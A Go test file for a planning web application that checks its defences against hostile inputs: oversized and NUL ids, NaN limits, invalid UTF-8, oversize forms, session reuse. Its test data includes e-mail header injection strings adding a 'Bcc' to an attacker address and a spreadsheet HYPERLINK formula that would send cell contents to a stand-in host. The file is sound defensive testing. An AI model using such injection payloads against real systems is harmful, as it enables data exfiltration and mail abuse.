package app_test

import (
	"encoding/csv"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"testing"

	"github.com/kehoach/kehoach/internal/demo"
	"github.com/kehoach/kehoach/internal/httpx"
	"github.com/kehoach/kehoach/internal/kehoachtest"
)

// TestHostileInputs covers, on both engines, the findings of the attack on
// forms and bodies one by one: an id of 100,000 characters, NaN and
// infinity as numbers, a spreadsheet formula as a unit name, an e-mail
// with a Bcc header, a phone that is no phone, years 0001 and 9999, a form
// over its size limit, a form with bytes that are no UTF-8, and logging in
// again.
func TestHostileInputs(t *testing.T) {
	eachEngine(t, func(t *testing.T, engine string) {
		f := newDemoFixture(t, engine)
		id := f.plan.ID
		long := strings.Repeat("x", 100000)
		form := func(user, path string, v url.Values) (int, string) {
			st, _, body := f.do(user, "POST", path, "application/x-www-form-urlencoded", strings.NewReader(v.Encode()), nil)
			return st, body
		}
		call := func(user, method, path, body string) (int, string) {
			st, _, b := f.do(user, method, path, "application/json", strings.NewReader(body), nil)
			return st, b
		}

		// Why 1: a 100,000-character id is no 500 on PostgreSQL.
		if st, body := call("vanphong", "GET", "/api/v1/plans/"+long, ""); st != http.StatusNotFound {
			t.Errorf("GET a plan of a long id: %d %.200s", st, body)
		}
		if st, body := call("vanphong", "POST", "/api/v1/plans/"+id+"/tasks", `{"title":"Nhiệm vụ","leadUnitId":"`+long+`","due":"2023-06-30"}`); st != http.StatusBadRequest || !strings.Contains(body, "leadUnitId") {
			t.Errorf("a task led by a long id: %d %.200s", st, body)
		}
		if st, body := call("vanphong", "GET", "/api/v1/plans/A%00B", ""); st != http.StatusNotFound {
			t.Errorf("GET a plan of an id with NUL: %d %.200s", st, body)
		}

		// Why 4: NaN and infinity as a lower limit are refused naming it.
		for _, v := range []string{"NaN", "Infinity", "-Inf", "1e999"} {
			st, body := form("quantri", "/indicators", url.Values{"code": {"thu_nghiem"}, "name": {"Thử nghiệm"}, "unit": {"lượt"}, "aggregation": {"sum"}, "min": {v}})
			if st != http.StatusBadRequest || webProblems(body)["min"] == "" {
				t.Errorf("indicator min=%s: %d %v", v, st, webProblems(body))
			}
		}

		// Why 7: one e-mail address, a phone, sensible years.
		unit := func(field, value string) (int, string) {
			body := `{"kind":"division","name":"Phòng Pháp chế","parentId":"` + demo.UnitAgency + `","` + field + `":` + value + `}`
			return call("quantri", "PUT", "/api/v1/units/"+demo.UnitFinance, body)
		}
		for _, c := range []struct{ field, value string }{
			{"email", `"phapche@sogtvt.vn\r\nBcc: x@attacker.invalid"`}, {"email", `"a@b.vn, c@d.vn"`},
			{"phone", `"0212\r\nBcc: x@attacker.invalid"`}, {"validFrom", `"0001-01-01T00:00:00Z"`}, {"validTo", `"9999-12-31T00:00:00Z"`},
		} {
			if st, body := unit(c.field, c.value); st != http.StatusBadRequest || !strings.Contains(body, `"`+c.field+`"`) {
				t.Errorf("unit %s=%s: %d %.300s", c.field, c.value, st, body)
			}
		}

		// Why 5: a unit named like a formula is written as text in the CSV.
		formula := `=HYPERLINK("http://x.invalid/?"&A2,"Bấm")`
		if st, body := call("quantri", "PUT", "/api/v1/units/"+demo.UnitFinance, `{"kind":"division","name":"`+strings.ReplaceAll(formula, `"`, `\"`)+`","parentId":"`+demo.UnitAgency+`"}`); st != http.StatusOK {
			t.Fatalf("renaming the unit: %d %.300s", st, body)
		}
		st, _, csvBody := f.do("vanphong", "GET", "/plans/"+id+"/monitoring?format=csv", "", nil, nil)
		if st != http.StatusOK {
			t.Fatalf("monitoring CSV: %d", st)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(csvBody, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := false
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+@", rune(c[0])) {
					t.Errorf("a CSV cell a spreadsheet would run: %q", c)
				}
				seen = seen || c == "'"+formula
			}
		}
		if !seen {
			t.Errorf("the unit named %q is not in the CSV as text", formula)
		}

		// Why 8: a form over its limit is shown again with what fitted and
		// the limit named.
		big := url.Values{"title": {"Nhiệm vụ giữ lại"}, "leadUnitId": {demo.UnitFinance}, "text": {strings.Repeat("a", 2<<20)}}
		st, body := form("vanphong", "/plans/"+id+"/tasks", big)
		if st != http.StatusRequestEntityTooLarge || !strings.Contains(body, "Nhiệm vụ giữ lại") || !strings.Contains(body, "1 MB") {
			t.Errorf("an oversize form: %d, keeps the title %v, names the limit %v", st, strings.Contains(body, "Nhiệm vụ giữ lại"), strings.Contains(body, "1 MB"))
		}

		// Why 1: a form with bytes that are no UTF-8 is refused naming the
		// field, never a 500.
		st, _, body = f.do("vanphong", "POST", "/plans/"+id+"/tasks", "application/x-www-form-urlencoded",
			strings.NewReader("title=A%ED%A0%80B&leadUnitId="+demo.UnitFinance+"&due=2023-06-30"), nil)
		if st != http.StatusBadRequest || webProblems(body)["title"] == "" {
			t.Errorf("a form with invalid UTF-8: %d %v", st, webProblems(body))
		}

		// Why 10: logging in again ends the old session.
		jar, _ := cookiejar.New(nil)
		c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		loginOnce := func() string {
			resp, err := c.PostForm(f.srv.URL+"/login", url.Values{"username": {"vanphong"}, "password": {kehoachtest.DemoPassword}})
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			for _, ck := range resp.Cookies() {
				if ck.Name == httpx.SessionCookie {
					return ck.Value
				}
			}
			t.Fatalf("login set no session cookie: %d", resp.StatusCode)
			return ""
		}
		old := loginOnce()
		if loginOnce() == old {
			t.Fatal("logging in again kept the session token")
		}
		req, _ := http.NewRequest("GET", f.srv.URL+"/api/v1/me/queue", nil)
		req.AddCookie(&http.Cookie{Name: httpx.SessionCookie, Value: old})
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("the old session cookie after logging in again: %d, want 401", resp.StatusCode)
		}
	})
}
